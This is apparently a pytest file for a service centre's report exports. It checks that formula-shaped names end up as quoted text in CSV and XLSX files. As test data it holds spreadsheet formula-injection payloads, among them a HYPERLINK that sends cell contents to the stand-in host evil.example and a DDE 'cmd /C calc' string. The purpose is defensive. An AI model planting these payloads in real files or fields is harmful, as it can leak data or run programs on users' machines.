"""Exports that cannot run code: names from a crafted config and from events are written as
text in CSV and XLSX (never as formulas), while figures stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

from openpyxl import load_workbook

from shared.config.centre import CentreConfig, config_document, parse_config
from shared.core.clock import FakeClock
from shared.core.local_queue import LocalQueue
from shared.reports.export import to_csv, to_xlsx
from shared.reports.facts import FactStore
from shared.reports.report import build_report
from shared.reports.request import make_request
from tests.reports.known_day import DAY, JOB, NINE

LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
STAFF = "@SUM(1+1)*cmd|' /C calc'!A0"
CENTRE = "-2+3 centre"
EVIL = (LINK, STAFF, CENTRE, "+1", "\tTab", "\rCR")


def crafted(config: CentreConfig) -> CentreConfig:
    """The DOST config with the job-seekers' service and the centre named like formulas."""
    data = config_document(config)
    data["centre"]["name"] = {"az": CENTRE, "ru": CENTRE, "en": CENTRE}
    for cat in data["category"]:
        for svc in cat.get("service", []):
            if f"{cat['id']}.{svc['id']}" == JOB:
                svc["name"] = {"az": LINK, "ru": LINK, "en": LINK}
    return parse_config(data, "crafted")


def crafted_day(path: Path, config: CentreConfig, clock: FakeClock) -> None:
    """Two visits at counter 1 under a staff name shaped like a formula."""
    clock.set(NINE)
    q = LocalQueue(path, config, clock)
    try:
        q.open_counter("1", STAFF)
        for minute in (1, 2):
            q.issue(JOB, source="kiosk-1")
            clock.set(NINE + timedelta(minutes=minute * 10))
            t = q.call_next("1", STAFF)
            assert t is not None
            q.start("1")
            clock.set(NINE + timedelta(minutes=minute * 10 + 5))
            q.finish("1", "served")
    finally:
        q.close()


def report_of(path: Path, config: CentreConfig, clock: FakeClock, by: str):
    facts = FactStore(path, config)
    try:
        facts.refresh(clock.now().timestamp() + 86400)
        return build_report(facts.conn, config, make_request(config, DAY, DAY, by), "en")
    finally:
        facts.close()


def test_csv_cells_that_look_like_formulas_are_text(tmp_path: Path, config: CentreConfig,
                                                    clock: FakeClock):
    """A service and a staff member named like formulas come back from the CSV quoted with a
    leading ', and the visit counts and minutes are plain numbers."""
    cfg = crafted(config)
    crafted_day(tmp_path / "q.sqlite", cfg, clock)
    by_service = list(csv.reader(io.StringIO(to_csv(
        report_of(tmp_path / "q.sqlite", cfg, clock, "service"), "by_service"))))
    by_staff = list(csv.reader(io.StringIO(to_csv(
        report_of(tmp_path / "q.sqlite", cfg, clock, "staff"), "by_staff"))))
    cells = [c for row in by_service + by_staff for c in row]
    assert "'" + LINK in cells and "'" + STAFF in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    header, row = by_staff[0], next(r for r in by_staff if r[0] == "'" + STAFF)
    assert row[header.index("Visits")] == "2"


def test_xlsx_holds_no_formula(tmp_path: Path, config: CentreConfig, clock: FakeClock):
    """Re-opened with openpyxl, the workbook has no formula cell anywhere: the crafted names
    are string cells with the quote prefix, figures are numbers, the centre's name is text."""
    cfg = crafted(config)
    crafted_day(tmp_path / "q.sqlite", cfg, clock)
    target = tmp_path / "report.xlsx"
    target.write_bytes(to_xlsx(report_of(tmp_path / "q.sqlite", cfg, clock, "staff")))
    wb = load_workbook(target)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for name in (LINK, STAFF, CENTRE):
        assert texts[name].data_type == "s" and texts[name].quotePrefix
    ws = wb["By staff member"]
    header = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == STAFF)
    assert row[header.index("Visits")].value == 2
    assert row[header.index("Visits")].data_type == "n"
